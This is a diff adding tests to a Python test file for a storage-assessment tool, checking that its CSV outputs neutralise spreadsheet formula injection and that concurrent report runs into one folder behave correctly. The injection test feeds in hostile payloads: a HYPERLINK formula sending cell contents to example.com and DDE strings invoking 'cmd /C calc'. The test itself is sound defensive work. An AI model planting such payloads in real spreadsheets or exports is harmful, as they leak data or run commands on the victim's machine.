@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import errno
 import io
+import json
 import os
 import shutil
 import subprocess
@@ -191,3 +192,77 @@ def test_a_formula_is_neutralised_and_a_number_kept():
     assert [plain_cell(spreadsheet_cell(c)) for c in FORMULAS + PLAIN] == list(FORMULAS + PLAIN)
     rows = list(csv.reader(io.StringIO(csv_text([("name", "value"), ("=1+1", -2.5)]))))
     assert rows == [["name", "value"], ["'=1+1", "-2.5"]]
+
+
+def _csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _runs_formula(cell: str) -> bool:
+    """True if a spreadsheet would take ``cell`` as a formula (a plain number is a number, not a formula)."""
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and spreadsheet_cell(cell) != cell
+
+
+@pytest.mark.slow
+def test_every_csv_writer_neutralises_formulas(small_list, tmp_path, capsys):
+    """review --csv (a system's name from the list), size --bom (a prices file's names, descriptions and sources)
+    and read --csv (a fio job's name) write no cell a spreadsheet would run; what they write reads back the same."""
+    from assess.cli import main
+
+    evil = '=HYPERLINK("http://example.com/?"&A1,"x")'
+    with open(small_list, encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    rows[1][rows[0].index("information_system")] = evil
+    listed = tmp_path / "list.csv"
+    with open(listed, "w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(rows)
+    assert main(["review", str(listed), "--csv", "--fail-on", "never"]) == 0
+    reviewed = _csv_cells(capsys.readouterr().out)
+    assert "'" + evil + " (WekaIO)" in reviewed  # the title: the system and its institution
+
+    prices = tmp_path / "prices.toml"
+    prices.write_text('[devices.hdd-20tb]\nprice = 350\nprice_source = "@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
+                      '[lines."-support"]\nprice = 10\nper = "TB"\ndescription = "+support, 3 years"\n')
+    bom = tmp_path / "bom.csv"
+    assert main([*NAS, "--prices", str(prices), "--bom", str(bom)]) == 0
+    billed = _csv_cells(bom.read_text(encoding="utf-8"))
+    assert {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-support", "'+support, 3 years"} <= set(billed)
+
+    fio = json.loads((WORKTREE / "tests/data/readers/fio-3.33_json_seqwrite.json").read_text())
+    fio["jobs"][0]["jobname"] = "-2+3+cmd|' /C calc'!A0"
+    job = tmp_path / "fio.json"
+    job.write_text(json.dumps(fio))
+    capsys.readouterr()
+    assert main(["read", str(job), "--csv"]) == 0
+    table = capsys.readouterr().out
+    assert "'-2+3+cmd|' /C calc'!A0 write" in _csv_cells(table)  # the job's name and its operation
+    for cells in (reviewed, billed, _csv_cells(table)):
+        assert not [c for c in cells if _runs_formula(c)]
+    again = tmp_path / "again.csv"
+    again.write_text(table)
+    assert main(["read", str(again), "--json"]) == 0  # iobound reads its table back with the name as it was
+    assert json.loads(capsys.readouterr().out)["runs"][0]["label"] == "-2+3+cmd|' /C calc'!A0 write"
+
+
+@pytest.mark.slow
+def test_two_reports_into_one_folder_at_once_never_call_the_other_s_files_foreign(tmp_path):
+    """Two reports started together into a new folder, then into an existing one: one writes it, the other says
+    why not, and never that the first one's files were not written by iobound."""
+    env = {**os.environ, "PYTHONPATH": str(WORKTREE)}
+    for target in (tmp_path / "new", tmp_path / "existing"):
+        if target.name == "existing":
+            target.mkdir()
+        argv = [sys.executable, "-m", "assess", "report", "lecture", "lecture-results.csv", "-o", str(target)]
+        both = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=WORKTREE)
+                for _ in range(2)]
+        done = sorted((p.wait(timeout=600), p.stderr.read()) for p in both)
+        for p in both:
+            p.stdout.close()
+            p.stderr.close()
+        assert [status for status, _ in done] == [0, 2], done
+        refused = done[1][1]
+        assert "did not write" not in refused and refused.count("\n") == 1
+        assert any(why in refused for why in ("was made by another command while this one worked",
+                                              "another iobound report is being written into it now",
+                                              "already holds a report")), refused
+        assert (target / "report.html").is_file() and not [n for n in os.listdir(tmp_path) if n.startswith(".")]
